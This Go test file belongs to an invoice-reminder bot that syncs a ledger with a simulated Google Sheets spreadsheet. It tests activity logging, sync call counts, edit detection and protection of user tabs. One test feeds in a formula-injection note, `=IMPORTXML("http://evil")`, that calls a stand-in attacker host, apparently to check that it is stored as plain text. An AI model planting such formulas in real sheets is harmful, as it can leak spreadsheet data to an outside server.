package app

import (
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/relance-bot/relance/internal/sim/sheetsim"
	"github.com/relance-bot/relance/ledger"
	"github.com/relance-bot/relance/sheets"
	"github.com/relance-bot/relance/sheets/google"
)

// laidOut moves the house to a spreadsheet that Relance made, in a language.
func (h *house) laidOut(language string) {
	h.t.Helper()
	w := sheets.Layout(language)
	w.TimeZone = "Europe/Paris"
	eur := func(minor int64) ledger.Value { return ledger.Amount(ledger.Money{Minor: minor, Currency: "EUR"}) }
	w.AddInvoice(ledger.Fields{
		ledger.FieldNumber: ledger.Text("INV-1"), ledger.FieldCustomer: ledger.Text("Acme"), ledger.FieldAmount: eur(120000), ledger.FieldCurrency: ledger.Text("EUR"),
		ledger.FieldIssued: ledger.Day(ledger.NewDate(2026, 10, 1)), ledger.FieldDue: ledger.Day(ledger.NewDate(2026, 11, 2)), ledger.FieldSalesperson: ledger.Text("anna@example.com"),
	})
	id, err := google.Create(h.t.Context(), google.Options{Endpoint: "http://sheets.invalid", HTTPClient: h.sheets.Client()}, w)
	h.must(err)
	h.spreadsheet = id
}

// lines are the cells of a tab as they show.
func (h *house) lines(title string) [][]string {
	h.t.Helper()
	for _, t := range h.sheets.Snapshot(h.spreadsheet).Tabs {
		if t.Title != title {
			continue
		}
		var all [][]string
		for _, row := range t.Rows {
			var cells []string
			for _, c := range row {
				cells = append(cells, c.Formatted)
			}
			all = append(all, cells)
		}
		return all
	}
	h.t.Fatalf("no tab %s", title)
	return nil
}

// under is the first cell below a header.
func (h *house) under(title, header string) string {
	h.t.Helper()
	at := slices.Index(h.lines(title)[0], header)
	if at < 0 || at > 25 {
		h.t.Fatalf("no column %s", header)
	}
	return string(rune('A'+at)) + "2"
}

func (h *house) tidy(language string) (*App, *book) {
	h.t.Helper()
	h.laidOut(language)
	o := h.options(h.newStore("relance.db"))
	o.Config.Language = language
	o.Config.Sync.Every, o.Config.Sync.FullEvery, o.LeaseTTL = time.Minute, 5*time.Minute, 10*time.Minute
	a := h.start(o)
	return a, a.books[0]
}

func TestTheActivityTabShowsTheLatestEntries(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHouse(t)
		a, b := h.tidy("fr")
		time.Sleep(time.Minute)
		act := ledger.Act{ID: "note", At: h.now(), Actor: anna, Source: ledger.SourceSlack}
		changes, err := act.Note(b.keeper.Book(), "inv-1", `=IMPORTXML("http://evil")`)
		h.must(err)
		_, err = b.keeper.Record(t.Context(), changes...)
		h.must(err)
		h.must(h.hand().Type("Factures", h.under("Factures", "Payé"), "200"))
		time.Sleep(11 * time.Minute)
		lines := h.lines("Activité")
		if want := []string{"Quand", "Qui", "Facture", "Client", "Quoi", "Avant", "Après"}; !slices.Equal(lines[0][:7], want) {
			t.Fatalf("the header is %q", lines[0])
		}
		find := func(what string) []string {
			i := slices.IndexFunc(lines, func(l []string) bool { return len(l) > 4 && l[4] == what })
			if i < 0 {
				t.Fatalf("no line %q in %q", what, lines)
			}
			return lines[i]
		}
		if got := find("Remarques"); got[1] != "Anna Berg" || got[2] != "INV-1" || got[3] != "Acme" || got[6] != `=IMPORTXML("http://evil")` || got[0] != "23/11/2026 08:01" {
			t.Errorf("a note of Anna's: %q", got)
		}
		if got := find("paiement"); got[1] != "dans la feuille" || got[6] != "200,00 EUR · 23/11/2026" {
			t.Errorf("a payment typed in the sheet: %q", got)
		}
		if got := find("facture ajoutée"); got[6] != "1200,00 EUR · 02/11/2026" {
			t.Errorf("the first read: %q", got)
		}
		if beat := h.lines("_relance")[0][5]; beat == "-" || beat == "" {
			t.Errorf("the time of the last read is %q", beat)
		}

		// Nothing moves: one look a cycle, and every five minutes one read and one
		// small write beside it.
		h.sheets.ResetCalls()
		time.Sleep(15 * time.Minute)
		calls := h.sheets.Calls()
		if w, r, d := calls["spreadsheets.batchUpdate"], calls["spreadsheets.values.batchGet"], calls["files.get"]; w != 3 || r > 6 || d < 17 || d > 20 {
			t.Errorf("a quarter of an hour of nothing: %v", calls)
		}
		if again := h.lines("Activité"); len(again) != len(lines) || !slices.Equal(again[1], lines[1]) {
			t.Errorf("showing was shown: %q", again)
		}
		h.stop(a)
	})
}

func TestAQuietCycleIsOneCallToDriveAndNoneToSheets(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHouse(t)
		a, b := h.tidy("en")
		time.Sleep(2*time.Minute + time.Second) // between two jobs
		a.HoldJobs(true)
		h.sheets.ResetCalls()
		const cycles = 8
		for range cycles {
			if r, err := b.sync(t.Context()); err != nil || !r.Quiet {
				t.Fatalf("%+v, %v", r, err)
			}
		}
		if calls := h.sheets.Calls(); len(calls) != 1 || calls["files.get"] != cycles {
			t.Errorf("calls %v", calls)
		}
		h.stop(a)
	})
}

// The bot's own write moves Drive's version. An edit beside it must be found
// all the same, whenever it comes.
func TestAnEditBesideTheActivityIsFound(t *testing.T) {
	for _, tt := range []struct {
		story, method string
		nth           int
		after         bool
	}{
		{"between the first probe and the write", "spreadsheets.batchUpdate", 1, false},
		{"between the write and the second probe", "spreadsheets.batchUpdate", 1, true},
		{"between the second probe and the read", "files.get", 2, true},
	} {
		t.Run(tt.story, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				h := newHouse(t)
				a, b := h.tidy("en")
				time.Sleep(2 * time.Minute)
				a.HoldJobs(true)
				time.Sleep(5 * time.Minute)
				seen, armed, notes := 0, true, h.under("Invoices", "Notes")
				hook := func(method string) {
					if method != tt.method || !armed {
						return
					}
					if seen++; seen == tt.nth {
						armed = false
						h.must(h.hand().Type("Invoices", notes, "typed just now"))
					}
				}
				if tt.after {
					h.sheets.AfterApply(hook)
				} else {
					h.sheets.BeforeApply(hook)
				}
				for range 2 {
					if _, err := b.sync(t.Context()); err != nil {
						t.Fatal(err)
					}
				}
				h.sheets.AfterApply(nil)
				h.sheets.BeforeApply(nil)
				if armed {
					t.Fatal("nothing was shown")
				}
				if inv, _ := b.keeper.Book().Invoice("inv-1"); inv.Notes != "typed just now" {
					t.Errorf("the note is %q", inv.Notes)
				}
				h.stop(a)
			})
		})
	}
}

func TestATabOfTheirOwnIsNeverWrittenOver(t *testing.T) {
	for _, tt := range []struct {
		story string
		edit  func(h *house, hand *sheetsim.Hand)
		tab   string
	}{
		{"one of that name", func(h *house, hand *sheetsim.Hand) {
			h.must(hand.RenameTab("Activity", "Old"))
			h.must(hand.SetValues("Old", "A1", [][]any{{"Mine"}}))
			h.must(hand.AddTab("Activity"))
			h.must(hand.SetValues("Activity", "A1", [][]any{{"When", "Who", "Invoice", "Customer", "What", "Before", "After"}, {"mine"}}))
		}, "Activity"},
		{"ours, once they made it theirs", func(h *house, hand *sheetsim.Hand) {
			h.must(hand.SetValues("Activity", "A1", [][]any{{"My own list"}, {"mine"}}))
		}, "Activity"},
	} {
		t.Run(tt.story, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				h := newHouse(t)
				h.laidOut("en")
				tt.edit(h, h.hand())
				o := h.options(h.newStore("relance.db"))
				o.Config.Sync.Every, o.LeaseTTL = time.Minute, 10*time.Minute
				a := h.start(o)
				time.Sleep(7 * time.Minute)
				if got := h.lines(tt.tab)[1][0]; got != "mine" {
					t.Errorf("their cell shows %q", got)
				}
				if beat := h.lines("_relance")[0][5]; beat == "-" {
					t.Error("the time of the last read isn't written")
				}
				h.stop(a)
			})
		})
	}
}

func TestAHeldBookShowsNoNewTime(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHouse(t)
		a, b := h.tidy("en")
		time.Sleep(time.Minute)
		h.must(h.hand().SetValues("Invoices", "AC1", [][]any{{"Invoice number"}}))
		time.Sleep(2 * time.Minute)
		if b.keeper.Book().Hold() == "" {
			t.Fatal("the book is not held")
		}
		before := h.lines("_relance")[0][5]
		time.Sleep(10 * time.Minute)
		if got := h.lines("_relance")[0][5]; got != before {
			t.Errorf("a held book says that it was synced at %s", got)
		}
		if strings.Contains(strings.Join(h.lines("Activity")[1], " "), "held") {
			t.Error("a held book wrote into the sheet")
		}
		h.stop(a)
	})
}
